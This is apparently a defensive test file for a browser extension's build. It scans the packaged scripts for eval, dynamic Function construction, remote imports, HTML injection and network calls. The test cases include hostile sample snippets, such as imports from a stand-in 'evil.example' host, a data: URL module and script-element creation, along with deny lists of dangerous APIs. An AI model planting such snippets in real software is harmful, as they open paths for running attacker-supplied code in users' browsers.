import type { Rule } from 'eslint';
import { describe, expect, test } from 'vitest';
import type { PackedFiles } from '../../scripts/build/packed-files';
import {
  calledName,
  constantText,
  readScript,
  scriptsIn,
  writtenText,
  type Script,
} from './syntax';
import { filesOf, TARGETS } from './targets';

/** What the browser brings along that runs text, runs code from elsewhere, or reaches the network. */
const GLOBALS = [
  ...['eval', 'Function', 'importScripts', 'WebAssembly', 'Worker', 'SharedWorker', 'DOMParser'],
  ...['XMLHttpRequest', 'WebSocket', 'WebTransport', 'EventSource', 'RTCPeerConnection', 'Image'],
];
/** The same by what it is called on something else. */
const MEMBERS = [
  ...GLOBALS.filter((name) => name !== 'Function' && name !== 'eval'),
  ...['outerHTML', 'insertAdjacentHTML', 'srcdoc', 'createContextualFragment', 'execScript'],
  ...['parseFromString', 'setHTMLUnsafe', 'parseHTMLUnsafe', 'writeln', 'sendBeacon'],
  ...['onMessageExternal', 'onConnectExternal', 'onConnect', 'onUserScriptMessage'],
];
const ELEMENTS = /^(script|iframe|frame|object|embed|base|portal|meta)$/i;

/** How webextension-polyfill keeps a method of all objects: no function is made of text. */
const HARMLESS = 'Function.call.bind(Object.prototype.hasOwnProperty)';

interface Place {
  file: string;
  start: number;
}

/** What is found in scripts, each time as the code around it. */
function findings(files: PackedFiles, scripts: readonly Script[]) {
  const around = ({ file, start }: Place) =>
    `${file}: ${String(files.get(file)).slice(start, start + 60)}`;
  const place = (file: string, node: object) => ({ file, start: (node as Place).start });
  const each = (find: (script: Script) => object[]) =>
    scripts
      .flatMap((script) => find(script).map((node) => place(script.file, node)))
      .map(around)
      .filter((found) => !found.includes(`: ${HARMLESS}`));
  return {
    globals: () =>
      each(({ globals }) =>
        globals
          .map(({ identifier }) => identifier)
          .filter(({ name }) => GLOBALS.includes(`${name}`)),
      ),
    members: () =>
      each(({ nodes }) =>
        nodes.filter(
          (node) => node.type === 'MemberExpression' && MEMBERS.includes(calledName(node) ?? ''),
        ),
      ),
    // `eval` and `Function` by way of the window, and a function’s own maker.
    makers: () =>
      each(({ nodes }) =>
        nodes.filter(
          (node) =>
            (node.type === 'CallExpression' || node.type === 'NewExpression') &&
            node.callee.type === 'MemberExpression' &&
            (/^(eval|Function|constructor)$/.test(calledName(node.callee) ?? '') ||
              `${calledName(node.callee.object)}.${calledName(node.callee)}` === 'document.write'),
        ),
      ),
    timers: () =>
      each(({ nodes }) =>
        nodes.filter(
          (node) =>
            node.type === 'CallExpression' &&
            /^set(Timeout|Interval)$/.test(calledName(node.callee) ?? '') &&
            /^(Literal|TemplateLiteral|BinaryExpression)$/.test(node.arguments[0]?.type ?? ''),
        ),
      ),
    imports: () =>
      each(({ nodes }) =>
        nodes.filter((node) => {
          const isImport = /^(Import(Declaration|Expression)|Export(All|Named)Declaration)$/;
          if (!isImport.test(node.type) || !('source' in node) || !node.source) return false;
          return !/^\.{1,2}\/[\w./-]+\.js$/.test(constantText(node.source) ?? '');
        }),
      ),
    elements: () =>
      each(({ nodes }) =>
        nodes.filter((node) => {
          if (/<(script|iframe|frame|object|embed|base)\b/i.test(constantText(node) ?? ''))
            return true;
          const isMaking =
            node.type === 'CallExpression' && /^createElement/.test(calledName(node.callee) ?? '');
          return isMaking && node.arguments.some((one) => ELEMENTS.test(constantText(one) ?? ''));
        }),
      ),
    markup: () =>
      each(({ nodes }) =>
        nodes.filter(
          (node) => node.type === 'MemberExpression' && calledName(node) === 'innerHTML',
        ),
      ),
    // The search of the guide has a method of this name, which is called on its own objects.
    fetches: () =>
      each(({ nodes, globals }) => {
        const ofBrowser = new Set<object>(globals.map(({ identifier }) => identifier));
        const isOwn = (node: Rule.Node) =>
          node.type === 'MemberExpression' && !ofBrowser.has(node.object);
        const isUse = (node: Rule.Node) => ofBrowser.has(node) || node.type === 'MemberExpression';
        return nodes.filter((node) => calledName(node) === 'fetch' && isUse(node) && !isOwn(node));
      }).map((found) => found.split(':')[0]),
  };
}

describe.each(TARGETS)('the code for %s', (target) => {
  const files = filesOf(target);
  const scripts = scriptsIn(files);
  const found = findings(files, scripts);

  test('is all there to be read', () => {
    expect(scripts.length).toBeGreaterThan(20);
    expect(scripts.flatMap(({ nodes }) => nodes).length).toBeGreaterThan(50_000);
    expect(scripts.flatMap(({ globals }) => globals).length).toBeGreaterThan(500);
  });

  test('runs no text, and none from elsewhere', () => {
    expect([found.globals(), found.members(), found.makers()]).toEqual([[], [], []]);
    expect([found.timers(), found.imports(), found.elements()]).toEqual([[], [], []]);
  });

  test('puts no address together from parts', () => {
    const nodes = scripts.flatMap((script) => script.nodes);
    const bare = nodes.filter((node) => /^\s*https?:(\/\/)?$/.test(writtenText(node) ?? ''));
    const uses = bare.map(({ parent }) => {
      if (parent?.type === 'BinaryExpression') return parent.operator.slice(1);
      return parent?.type === 'CallExpression' && calledName(parent.callee);
    });
    // An address is compared with it, and shown on paper without it.
    expect(uses.sort()).toEqual(['==', 'replace']);
    const texts = nodes.flatMap((node) => writtenText(node) ?? []);
    // "Data: 5 May" is a date in some languages.
    const others = /^\s*((javascript|blob|vbscript|wss?):|data:(?! \S))/i;
    expect(texts.filter((text) => others.test(text))).toEqual([]);
  });

  test('reaches the network in the worker alone, for the feed and for why that failed; pages read our own words', () => {
    const places = found.fetches().map((name) => name?.replace(/-[\w-]{8}\.js$/, ''));
    expect(places).toEqual([...Array<string>(3).fill('background.js'), 'chunks/verdict']);
  });

  // ESLint forbids `{@html}`, so Svelte calls it with constant templates only.
  test('creates HTML in one place, which is Svelte’s', () => {
    expect(found.markup()).toHaveLength(1);
  });
});

test.each<[keyof ReturnType<typeof findings>, string]>([
  ['globals', 'eval(a)'],
  ['globals', '(0, eval)(a)'],
  ['globals', 'new Function(a)'],
  ['globals', 'const make = Function; make(a)'],
  ['globals', 'new Worker(a)'],
  ['globals', 'new WebSocket(a)'],
  ['globals', 'new Image().src = a'],
  ['members', 'self.importScripts(a)'],
  ['members', 'a.insertAdjacentHTML("beforeend", b)'],
  ['members', 'a["outerHTML"] = b'],
  ['members', 'chrome.runtime.onMessageExternal.addListener(a)'],
  ['members', 'navigator.sendBeacon(a)'],
  ['makers', 'globalThis.eval(a)'],
  ['makers', 'new globalThis[`Function`](a)'],
  ['makers', '(() => {}).constructor(a)()'],
  ['makers', 'document.write(a)'],
  ['timers', 'setTimeout("a()")'],
  ['timers', 'window.setInterval(`a(${b})`, 5)'],
  ['imports', 'import a from "https://evil.example/a.js"'],
  ['imports', 'import("//evil.example/a.js")'],
  ['imports', 'import(a)'],
  ['imports', 'export * from "data:text/javascript,a"'],
  ['elements', 'document.createElement("script")'],
  ['elements', 'const a = `<p><iframe src="a"></iframe></p>`'],
  ['markup', 'a.innerHTML = b'],
  ['fetches', 'fetch(a)'],
  ['fetches', 'self.fetch(a)'],
])('%s: “%s” is found', (kind, code) => {
  const files = new Map([['a.js', Buffer.from(code)]]);
  expect(findings(files, [readScript('a.js', code)])[kind]()).not.toEqual([]);
});

test('and what only looks like it is not', () => {
  const code = `${HARMLESS};const a={eval:1,Function:2};a.Function;function b(fetch){};"eval(a)"`;
  const found = findings(new Map([['a.js', Buffer.from(code)]]), [readScript('a.js', code)]);
  const { globals, members, makers, timers, imports, elements, markup } = found;
  const all = [globals, members, makers, timers, imports, elements, markup];
  expect(all.flatMap((find) => find())).toEqual([]);
});
